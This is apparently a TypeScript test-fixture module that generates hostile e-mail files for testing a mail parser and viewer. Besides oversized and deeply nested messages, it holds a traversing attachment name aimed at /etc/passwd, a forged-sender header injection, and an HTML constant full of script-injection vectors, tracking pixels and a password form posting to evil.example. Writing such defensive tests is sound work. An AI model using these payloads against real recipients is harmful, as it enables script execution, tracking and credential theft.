import type { HostileFile } from './hostile-pdfs.ts'

const bytes = (text: string): Uint8Array => Uint8Array.from(text, (c) => c.charCodeAt(0))

const head = [
  'From: Mallory <mallory@example.com>',
  'To: office@example.org',
  'Date: Mon, 16 Nov 2026 09:00:00 +0000',
  'Subject: Your invoice',
  'MIME-Version: 1.0',
]
const mail = (...lines: string[]): Uint8Array => bytes([...head, ...lines].join('\r\n'))
const html = (body: string): Uint8Array => mail('Content-Type: text/html; charset=utf-8', '', body)

/** A multipart mail of these parts, each with its own headers. */
const mixed = (parts: readonly string[]): Uint8Array =>
  mail('Content-Type: multipart/mixed; boundary=b', '', ...parts.map((part) => `--b\r\n${part}`), '--b--', '')
const text = 'Content-Type: text/plain\r\n\r\nPlease find the invoice attached.'
const attached = (name: string, content: string, encoding = '7bit') =>
  `Content-Type: application/pdf; name="${name}"\r\nContent-Disposition: attachment; filename="${name}"\r\nContent-Transfer-Encoding: ${encoding}\r\n\r\n${content}`

/** E-mails that no mail program writes, or that it writes to harm whoever opens them. Deterministic. */
export function* hostileMails(): Iterable<HostileFile> {
  yield { name: 'parts.eml', kind: 'mail of 10,000 parts', bytes: mixed(Array(10_000).fill(attached('a.txt', 'x'))) }
  yield { name: 'deep.eml', kind: 'mail of parts in parts', bytes: nestedParts(300) }
  yield { name: 'dolls.eml', kind: 'mail in a mail, 40 times', bytes: nestedMails(40) }
  yield {
    name: 'open.eml',
    kind: 'mail whose boundary never ends',
    bytes: mail('Content-Type: multipart/mixed; boundary=b', '', '--b', text),
  }
  yield {
    name: 'dashes.eml',
    kind: 'mail of 200,000 boundary-like lines',
    bytes: mixed([`${text}\r\n${'--b-\r\n'.repeat(200_000)}`]),
  }
  yield {
    name: 'base64.eml',
    kind: 'mail with broken base64',
    bytes: mixed([text, attached('a.pdf', '=!=JVBERi0x*#LjcK\r\n'.repeat(500), 'base64')]),
  }
  yield {
    name: 'header.eml',
    kind: 'mail with a header of 3 MB',
    bytes: mail(`X-Long: ${'x'.repeat(3_000_000)}`, '', 'hello'),
  }
  yield {
    name: 'folded.eml',
    kind: 'mail with 100,000 header lines',
    bytes: mail('X-Folded: y', ...Array(100_000).fill(' y'), '', 'hello'),
  }
  yield {
    name: 'people.eml',
    kind: 'mail to 20,000 people',
    bytes: bytes(
      `From: a@example.com\r\nSubject: all\r\nTo: ${Array(20_000).fill('"A, B" <a@example.com>').join(',\r\n ')}\r\n\r\nhello`,
    ),
  }
  yield {
    name: 'charset.eml',
    kind: 'mail that lies about its letters',
    bytes: mail(
      'Content-Type: text/plain; charset=utf-7',
      'Content-Transfer-Encoding: 8bit',
      '',
      'Z\xfcrich \xff\xfe \0 +ADw-script+AD4-',
    ),
  }
  yield { name: 'bodyless.eml', kind: 'mail without a body', bytes: mail('') }
  yield {
    name: 'nothing.eml',
    kind: 'mail with nothing to read',
    bytes: bytes('Received: from nowhere\r\nMIME-Version: 1.0\r\nFrom:\r\n\r\n'),
  }
  yield {
    name: 'climb.eml',
    kind: 'mail whose attachment climbs folders',
    bytes: mixed([text, attached('../../etc/passwd\u0000.pdf', 'not a pdf')]),
  }
  yield {
    name: 'smuggle.eml',
    kind: 'mail with a second sender in its subject',
    bytes: bytes('From: a@example.com\r\nSubject: =?utf-8?Q?Hi=0D=0AFrom:_ceo@example.org=E2=80=AE?=\r\n\r\nhello'),
  }
  yield { name: 'script.eml', kind: 'mail with scripts, forms and spying pictures', bytes: html(hostileHtml) }
  yield { name: 'nest.eml', kind: 'mail of 200,000 open tags', bytes: html('<div><b>'.repeat(100_000)) }
  yield {
    name: 'styles.eml',
    kind: 'mail of endless styles',
    bytes: html(`<p style="${'color:red;'.repeat(100_000)}">x</p>`),
  }
  yield {
    name: 'unclosed.eml',
    kind: 'mail of unclosed comments and frames',
    bytes: html(`${'<iframe><!--<noscript>'.repeat(20_000)}x`),
  }
  yield { name: 'entities.eml', kind: 'mail of 20,000 entities', bytes: html('&amp;'.repeat(20_000)) }
}

/** What is done to people who open mail: every way to run, to fetch or to cover that a test should not find again. */
export const hostileHtml = `<html><head><title>TITLE</title><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">
<style>@import url(https://evil.example/a.css); p{background:url(https://evil.example/b.png)}</style><link rel="stylesheet" href="https://evil.example/c.css"></head>
<body background="https://evil.example/d.png" onload="steal()"><script>steal()</script>
<p onclick="steal()" style="background-image:url(https://evil.example/e.png);position:fixed;color:red;behavior:url(x)">Please pay</p>
<a href="javascript:steal()">one</a> <a href=" jAvAsCrIpT:steal()">two</a> <a href="data:text/html,<script>steal()</script>">three</a>
<a href="https://example.org/pay?x=1&y=2" onmouseover="steal()">four</a> <a href="//evil.example">five</a>
<img src="https://evil.example/pixel.gif" alt="Our logo"><img src="x" onerror="steal()"><img srcset="https://evil.example/f.png 2x">
<img src="data:image/svg+xml,<svg onload=steal()>"><input type="image" src="https://evil.example/g.png"><video poster="https://evil.example/h.png"></video>
<svg><script>steal()</script><image href="https://evil.example/i.png"/></svg><math><mi xlink:href="javascript:steal()">m</mi></math>
<form action="https://evil.example"><input name="password"><button>Send</button></form>
<iframe src="https://evil.example" srcdoc="<script>steal()</script>"></iframe><object data="https://evil.example"></object><embed src="https://evil.example">
<table background="https://evil.example/j.png"><tr><td style="width:expression(steal())">Total</td><td>119.00</td></tr></table>
<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript><xmp><script>steal()</script></xmp><!--[if mso]><script>steal()</script><![endif]-->
<p>Thank&nbsp;you &amp; goodbye &lt;b&gt;</p></body></html>`

function nestedParts(depth: number): Uint8Array {
  const opens = Array.from({ length: depth }, (_, i) => `Content-Type: multipart/mixed; boundary=b${i}\r\n\r\n--b${i}`)
  return mail(...opens, text)
}

function nestedMails(depth: number): Uint8Array {
  const envelope = 'From: a@example.com\r\nSubject: inside\r\nContent-Type: message/rfc822\r\n\r\n'
  return bytes(`${envelope.repeat(depth)}From: a@example.com\r\nSubject: core\r\n\r\nhello`)
}
